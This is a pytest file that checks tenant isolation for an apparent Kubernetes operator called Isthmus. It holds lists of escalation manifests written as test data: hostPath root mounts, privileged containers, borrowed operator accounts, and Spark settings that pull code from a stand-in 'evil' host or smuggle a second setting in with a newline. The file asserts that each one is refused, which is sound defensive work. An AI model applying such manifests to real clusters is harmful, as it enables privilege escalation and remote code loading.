"""What a tenant that may write all Isthmus resources, and nothing else, can reach by them: nothing that it may not.

The API server refuses each try: by RBAC, by the schemas, or by the admission policies of the chart.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from .harness.cluster import Cluster
from .harness.host import CommandError
from .support.tenant import (
    CONFINED,
    OURS,
    RBAC,
    ROLE,
    SIDE,
    Place,
    analysis,
    away,
    place_of_a_tenant,
    plain,
    resource,
    token,
)


def router(**pod: Any) -> dict[str, Any]:
    return resource("Router", podTemplate={"spec": pod})


def labelled(kind: str, **keys: str) -> dict[str, Any]:
    return resource("Router", podTemplate={"metadata": {kind: keys}})


def mounting(volume: str) -> dict[str, Any]:
    side = {**SIDE, "volumeMounts": [{"name": volume, "mountPath": "/mnt"}]}
    return router(initContainers=[side])


def site(**spec: Any) -> dict[str, Any]:
    return resource("RelaySite", routerRef={"name": "hub"}, group="g", site="x", **spec)


POD = plain("Pod", spec={"containers": [SIDE]})
LOG = {"routerRef": {"name": "hub"}, "volume": {"size": "1Gi"}}
DRIVER = {**ROLE, "name": "isthmus-flow-driver"}
SUBJECT = {"kind": "ServiceAccount", "name": "tenant", "namespace": "default"}

BY_RESOURCES: list[tuple[str, dict[str, Any]]] = [
    ("hostNetwork", router(hostNetwork=True)),
    ("hostPID", router(hostPID=True)),
    ("hostIPC", router(hostIPC=True)),
    ("hostUsers", router(hostUsers=True)),
    ("nodeName", router(nodeName="control-plane")),
    ("serviceAccountName", router(serviceAccountName="isthmus-operator")),
    ("automountServiceAccountToken", router(automountServiceAccountToken=True)),
    ("shareProcessNamespace", router(shareProcessNamespace=True)),
    ("hostAliases", router(hostAliases=[{"ip": "10.0.0.1", "hostnames": ["a"]}])),
    ("dnsConfig", router(dnsConfig={"nameservers": ["203.0.113.1"]})),
    ("volumes", router(volumes=[{"name": "h", "hostPath": {"path": "/"}}])),
    ("volumes", router(volumes=[{"name": "s", "secret": {"secretName": "others"}}])),
    ("volumes", router(volumes=[{"name": "t", "projected": {"sources": []}}])),
    (
        r"spec.podTemplate.spec: containers\[router\].command is not allowed.*restrictions.podTemplate",
        router(containers=[{"name": "router", "resources": {}, "command": ["sh"]}]),
    ),
    ("containers", router(containers=[{"name": "router", "securityContext": {"privileged": True}}])),
    ("containers", router(containers=[{"name": "router", "image": "evil:1"}])),
    ("containers", router(containers=[{"name": "router", "envFrom": [{"secretRef": {"name": "others"}}]}])),
    ('spec.image: the image "evil:1" is not allowed; remove it, or add', resource("Router", image="evil:1")),
    ("spec.image", resource("Router", image="evil:1\nx")),
    ("spec.image", resource("GossipRouter", image="evil:1")),
    ("spec.image", resource("FlowLog", **LOG, image="evil:1")),
    ("spec.image", analysis(image="evil:1")),
    ("hostNetwork", resource("GossipRouter", podTemplate={"spec": {"hostNetwork": True}})),
    ("hostNetwork", resource("FlowLog", **LOG, podTemplate={"spec": {"hostNetwork": True}})),
    ("serviceAccountName", analysis(podTemplate={"spec": {"serviceAccountName": "isthmus-operator"}})),
    ("containers", analysis(podTemplate={"spec": {"containers": [{"name": "driver", "args": ["x"]}]}})),
    ("sparkConf", analysis(sparkConf={"spark.task.cpus": "1\nspark.jars http://evil/x.jar"})),
    ("sparkConf", analysis(sparkConf={"spark.kubernetes.namespace": "kube-system"})),
    ("sparkConf", analysis(sparkConf={"spark.submit.pyFiles": "http://evil/x.py"})),
    ("sparkConf", analysis(sparkConf={"spark.authenticate": "false"})),
]
LISTENER = {"name": "a", "port": 5672, "exposure": "NodePort"}
HOSTNAME = {"external-dns.alpha.kubernetes.io/hostname": "bank.example"}
BY_RESOURCES += [
    ("metadata.annotations", labelled("annotations", **{"sidecar.istio.io/proxyImage": "evil:1"})),
    ("metadata.annotations", labelled("annotations", **{"isthmus.dev/restart-hash": "x"})),
    ("metadata.labels", labelled("labels", **{"sidecar.istio.io/inject": "true"})),
    ("metadata.labels", labelled("labels", app="postgres")),
    ("serviceAnnotations", resource("Router", listeners=[{**LISTENER, "serviceAnnotations": HOSTNAME}])),
    ("serviceAnnotations", resource("GossipRouter", expose="NodePort", serviceAnnotations=HOSTNAME)),
    ("serviceAnnotations", site(bridge={"serviceAnnotations": HOSTNAME})),
    ("priorityClassName", router(priorityClassName="high")),
    ("affinity", router(affinity=away(namespaceSelector={}))),
    ("affinity", router(affinity=away(namespaces=["kube-system"]))),
    ("volumeMounts", mounting("config")),
    ("volumeMounts", mounting("tls")),
    ("volumes", router(volumes=[{"name": "p", "persistentVolumeClaim": {"claimName": "others"}}])),
    ("volumes", router(volumes=[{"name": "e", "ephemeral": {}}])),
    ("imagePullSecrets", router(imagePullSecrets=[{"name": "x", "namespace": "kube-system"}])),
    ("securityContext", router(securityContext={"fsGroup": 26})),
    ("securityContext", router(securityContext={"supplementalGroups": [26]})),
    ("claimName", resource("FlowLog", routerRef={"name": "hub"}, volume={"claimName": "others"})),
    ("secretName", resource("FlowLog", routerRef={"name": "hub"}, s3={"url": "s3a://bucket/flows"})),
    (
        r"spec.listeners\[a\].exposure: LoadBalancer is not allowed; use ClusterIP, or add",
        resource("Router", listeners=[{**LISTENER, "exposure": "LoadBalancer"}]),
    ),
    ("spec.expose: LoadBalancer is not", resource("GossipRouter", expose="LoadBalancer")),
    ("spec.bridge.expose: LoadBalancer is not", site(bridge={"expose": "LoadBalancer"})),
]
DIRECTLY: list[tuple[str, dict[str, Any]]] = [
    ("forbidden", POD),
    ("forbidden", plain("Secret")),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
]
BY_THE_OPERATOR: list[tuple[str, dict[str, Any]]] = [
    ("makes no tokens", token()),
    ("only Secrets of its own", plain("Secret")),
    ("only Secrets of its own", plain("Secret", labels={"app.kubernetes.io/managed-by": "Helm"})),
    ("accounts of the same namespace", plain("RoleBinding", RBAC, roleRef=DRIVER, subjects=[SUBJECT])),
    ("forbidden", plain("RoleBinding", RBAC, roleRef=ROLE, subjects=[SUBJECT])),
    ("forbidden", POD),
]
OF_OTHERS = (
    plain("ServiceAccount"),
    plain("Service", spec={"ports": [{"port": 80}], "selector": {"a": "b"}}),
    plain("NetworkPolicy", "networking.k8s.io/v1", spec={"podSelector": {}}),
)


@pytest.fixture(scope="module")
def place(cluster: Cluster) -> Iterator[Place]:
    with place_of_a_tenant(cluster) as place:
        yield place


def test_the_api_server_finds_no_mistake_in_the_admission_policies(cluster: Cluster, place: Place) -> None:
    """It compiles and type-checks them."""

    def checked() -> list[dict[str, Any]]:
        found = [
            item
            for item in cluster.get("validatingadmissionpolicies")["items"]
            if item["metadata"]["name"].startswith(f"{place.namespace}-")
        ]
        assert all("observedGeneration" in item.get("status", {}) for item in found)
        return found

    policies = cluster.eventually("the policies are checked", checked)
    warnings = [item["status"].get("typeChecking", {}).get("expressionWarnings") for item in policies]
    assert len(policies) == 13
    assert not any(warnings), warnings


def test_the_tenant_may_write_what_it_is_meant_to(place: Place) -> None:
    for manifest in (
        resource("Router"),
        router(nodeSelector={"a": "b"}),
        analysis(schedule="@daily"),
        site(bridge={"serviceAnnotations": {"owner": "me"}}),
        labelled("annotations", **{"prometheus.io/scrape": "false"}, owner="me"),
        labelled("labels", **{"app.kubernetes.io/version": "1"}),
        router(affinity=away()),
        resource("Router", listeners=[LISTENER]),
        resource("FlowLog", **LOG),
        mounting("mine"),
    ):
        place.create("tenant", manifest)


def test_no_resource_of_a_tenant_gets_rights(place: Place) -> None:
    for word, manifest in (*BY_RESOURCES, *DIRECTLY):
        place.refused("tenant", word, manifest)


def test_no_resource_of_a_tenant_is_deleted_without_its_objects(place: Place) -> None:
    """Nobody could tell whose they are, and there would be ever more of them."""
    name = "stays"
    router = resource("Router")
    router["metadata"]["name"] = name
    place.kubectl("create", "--filename=-", input=json.dumps(router), as_account="tenant")
    route = f"/apis/isthmus.dev/v1alpha1/namespaces/{place.namespace}/routers"
    for path in (f"{route}/{name}", route):
        for options in ({"propagationPolicy": "Orphan"}, {"orphanDependents": True}):
            body = json.dumps({"apiVersion": "v1", "kind": "DeleteOptions", **options})
            with pytest.raises(CommandError) as error:
                place.kubectl(*("delete", f"--raw={path}", "--filename=-"), input=body, as_account="tenant")
            assert "without --cascade=orphan" in error.value.output, (path, options, error.value.output)
    finalizer = '{"metadata": {"finalizers": ["orphan"]}}'
    with pytest.raises(CommandError) as error:
        place.kubectl("patch", "router", name, "--type=merge", f"--patch={finalizer}", as_account="tenant")
    assert "finalizers may not contain orphan" in error.value.output
    place.kubectl("get", "router", name)
    for policy in ("foreground", "background"):
        place.kubectl("delete", "router", name, f"--cascade={policy}", as_account="tenant")
        place.kubectl("create", "--filename=-", input=json.dumps(router), as_account="tenant")
    place.kubectl("delete", "router", "--all", as_account="tenant")


def test_a_driver_makes_no_pod_with_the_account_of_the_operator(place: Place) -> None:
    """It could read all Secrets that the operator may read."""
    place.allow_pods("driver", "create")
    pod = plain("Pod", spec={**CONFINED})
    place.create("driver", pod)
    pod["spec"]["serviceAccountName"] = "isthmus-operator"
    place.refused("driver", "with the account of the operator of Isthmus", pod)


def test_only_nodes_make_tokens_of_the_pods_of_drivers(place: Place) -> None:
    """Other policies know a driver by its pod, which its token names."""
    account, pod = "x-analysis", plain("Pod", spec={**CONFINED, "nodeSelector": {"no-such-node": "true"}})
    place.kubectl("create", "serviceaccount", account)
    pod["spec"]["serviceAccountName"] = account
    pod["metadata"]["name"] = "driver"
    place.kubectl("create", "--filename=-", input=json.dumps(pod))
    uid = place.kubectl("get", "pod", "driver", "--output=jsonpath={.metadata.uid}")
    place.allow("tokens", "serviceaccounts/token", "create")
    place.kubectl("create", "token", account, as_account="tokens")
    bound = ("--bound-object-kind=Pod", "--bound-object-name=driver", f"--bound-object-uid={uid}")
    with pytest.raises(CommandError) as error:
        place.kubectl("create", "token", account, *bound, as_account="tokens")
    assert "only nodes make tokens that are bound to pods" in error.value.output
    place.kubectl("delete", "pod", "driver", "--wait=false")


def test_the_operator_itself_cannot_write_what_its_code_never_writes(place: Place) -> None:
    for word, manifest in BY_THE_OPERATOR:
        place.refused("isthmus-operator", word, manifest)


def test_the_operator_itself_changes_only_annotations_of_its_own_pods(place: Place) -> None:
    place.allow_pods("isthmus-operator", "get")  # kubectl reads before it writes
    for name, labels in (("own", OURS), ("foreign", {"app": "x"})):
        pod = plain("Pod", labels=labels, spec={**CONFINED, "nodeSelector": {"no-such-node": "true"}})
        pod["metadata"]["name"] = name
        place.kubectl("create", "--filename=-", input=json.dumps(pod))
    place.kubectl("annotate", "pod", "own", "a=b", as_account="isthmus-operator")
    for words in (
        ("annotate", "pod", "foreign", "a=b"),
        ("label", "pod", "own", "app=postgres"),
        ("label", "pod", "foreign", "app.kubernetes.io/managed-by=isthmus-operator"),
        ("set", "image", "pod/own", "side=evil:2"),
    ):
        with pytest.raises(CommandError) as error:
            place.kubectl(*words, as_account="isthmus-operator")
        assert "changes only annotations of its own pods" in error.value.output, words
    place.kubectl("delete", "pod", "own", "foreign", "--wait=false")


def test_the_operator_itself_cannot_change_or_delete_what_is_not_its_own(place: Place) -> None:
    for manifest in OF_OTHERS:
        kind = manifest["kind"]
        place.kubectl("create", "--filename=-", input=json.dumps(manifest))
        change = ("annotate", kind, "x", "a=b")
        for words in (change, ("delete", kind, "x")) if kind in {"Service", "NetworkPolicy"} else (change,):
            with pytest.raises(CommandError) as error:
                place.kubectl(*words, "--dry-run=server", as_account="isthmus-operator")
            assert "only objects of its own" in error.value.output, words
        place.kubectl("label", kind, "x", "app.kubernetes.io/managed-by=isthmus-operator")
        place.kubectl(*change, "--dry-run=server", as_account="isthmus-operator")
        place.kubectl("delete", kind, "x")
